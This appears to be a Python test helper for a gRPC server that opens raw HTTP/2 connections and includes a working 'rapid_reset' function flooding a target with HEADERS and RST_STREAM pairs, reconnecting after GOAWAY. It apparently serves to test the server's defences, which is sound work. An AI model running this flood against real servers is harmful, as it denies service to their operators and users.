"""A raw HTTP/2 client that misbehaves as an attacker would (the `h2` package).

grpcio's own client cannot do these things: it never resets a stream it just opened,
and it queues streams beyond the server's MAX_CONCURRENT_STREAMS instead of sending
them. Every function here is bounded in time and closes its socket.
"""

from __future__ import annotations

import contextlib
import socket
import time
from dataclasses import dataclass, field
from urllib.parse import unquote

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

STREAM_CUTS = "/seamcut.v1.Seamcut/StreamCuts"


def _headers(authority: str, path: str, extra: tuple[tuple[str, str], ...] = ()) -> list[
        tuple[str, str]]:
    return [(":method", "POST"), (":scheme", "http"), (":path", path),
            (":authority", authority), ("content-type", "application/grpc"), ("te", "trailers"),
            *extra]


def _text(value: str | bytes) -> str:
    return value.decode("utf-8", "replace") if isinstance(value, bytes) else value


class Connection:
    """One plaintext HTTP/2 connection to ``host:port`` (prior knowledge, as gRPC does)."""

    def __init__(self, host: str, port: int, *, timeout_s: float = 5.0,
                 source: str = "") -> None:
        """``source``: the local address to connect from (any of 127.0.0.0/8 works on
        loopback, so tests can be several client addresses)."""
        self.sock = socket.create_connection((host, port), timeout=timeout_s,
                                             source_address=(source, 0) if source else None)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.authority = f"{host}:{port}"
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(
            client_side=True, header_encoding="utf-8"))
        self.h2.initiate_connection()
        self.flush()
        self.goaway: h2.events.ConnectionTerminated | None = None
        self.closed = False
        self.refused = 0  # streams the server reset (REFUSED_STREAM or other codes)
        self.statuses: dict[int, str] = {}  # stream id -> grpc-status from the server
        self.messages: dict[int, str] = {}  # stream id -> grpc-message
        self.trailers: dict[int, dict[str, str]] = {}  # stream id -> the status's headers
        self.max_concurrent_streams: int | None = None

    def flush(self) -> None:
        data = self.h2.data_to_send()
        if data:
            self.sock.sendall(data)

    def open(self, path: str = STREAM_CUTS,
             extra: tuple[tuple[str, str], ...] = ()) -> int:
        """Send HEADERS for a new stream; its id. Raises TooManyStreamsError when the
        server's MAX_CONCURRENT_STREAMS is reached (h2 enforces the peer's setting)."""
        sid = self.h2.get_next_available_stream_id()
        self.h2.send_headers(sid, _headers(self.authority, path, extra))
        return sid

    def status_of(self, sid: int) -> tuple[int, str, dict[str, str]] | None:
        """(grpc-status, grpc-message, trailers) if the server ended stream ``sid``."""
        if sid not in self.statuses:
            return None
        return int(self.statuses[sid]), self.messages[sid], self.trailers[sid]

    def reset(self, sid: int) -> None:
        self.h2.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)

    def pump(self, wait_s: float = 0.0) -> None:
        """Read whatever the server sent (up to ``wait_s`` for the first byte)."""
        self.sock.settimeout(wait_s if wait_s > 0 else 0.0)
        while not self.closed:
            try:
                data = self.sock.recv(1 << 20)
            except (BlockingIOError, TimeoutError):
                break
            except OSError:
                self.closed = True
                break
            if not data:
                self.closed = True
                break
            try:
                events = self.h2.receive_data(data)
            except h2.exceptions.ProtocolError:
                self.closed = True
                break
            self._handle(events)
            self.sock.settimeout(0.0)
        if not self.closed:
            try:
                self.flush()
            except OSError:
                self.closed = True

    def pump_for(self, seconds: float) -> None:
        """Read what the server sends for ``seconds``."""
        t_end = time.monotonic() + seconds
        while not self.closed and time.monotonic() < t_end:
            self.pump(min(0.05, max(0.001, t_end - time.monotonic())))

    def _handle(self, events: list[h2.events.Event]) -> None:
        for ev in events:
            if isinstance(ev, h2.events.ConnectionTerminated):
                self.goaway = ev
            elif isinstance(ev, h2.events.StreamReset):
                if ev.remote_reset:
                    self.refused += 1
            elif isinstance(ev, h2.events.RemoteSettingsChanged):
                mcs = ev.changed_settings.get(h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS)
                if mcs is not None:
                    self.max_concurrent_streams = mcs.new_value
            elif isinstance(ev, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                hdrs = {_text(k): _text(v) for k, v in ev.headers or ()}
                if "grpc-status" in hdrs:
                    self.statuses[ev.stream_id] = hdrs["grpc-status"]
                    self.messages[ev.stream_id] = unquote(hdrs.get("grpc-message", ""))
                    self.trailers[ev.stream_id] = hdrs
            elif isinstance(ev, h2.events.DataReceived):
                self.h2.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()
        self.closed = True


@dataclass
class RapidResetStats:
    pairs: int = 0  # HEADERS + RST_STREAM pairs sent
    connections: int = 0  # connections opened (the attacker reconnects after a GOAWAY)
    goaways: int = 0
    goaway_codes: list[str] = field(default_factory=list)
    refused_connects: int = 0


def rapid_reset(host: str, port: int, duration_s: float, *, batch: int = 50,
                reconnect: bool = True) -> RapidResetStats:
    """HEADERS + RST_STREAM(CANCEL) pairs as fast as one core sends them, for
    ``duration_s``; after a GOAWAY or a closed connection, connect again."""
    stats = RapidResetStats()
    deadline = time.monotonic() + duration_s
    while time.monotonic() < deadline:
        try:
            conn = Connection(host, port, timeout_s=1.0)
        except OSError:
            stats.refused_connects += 1
            time.sleep(0.01)
            continue
        stats.connections += 1
        try:
            while time.monotonic() < deadline and not conn.closed and conn.goaway is None:
                for _ in range(batch):
                    sid = conn.open()
                    conn.reset(sid)
                stats.pairs += batch
                try:
                    conn.flush()
                except OSError:
                    break
                conn.pump()
        except (h2.exceptions.ProtocolError, OSError):
            pass
        finally:
            if conn.goaway is not None:
                stats.goaways += 1
                stats.goaway_codes.append(str(conn.goaway.error_code))
            conn.close()
        if not reconnect:
            break
    return stats
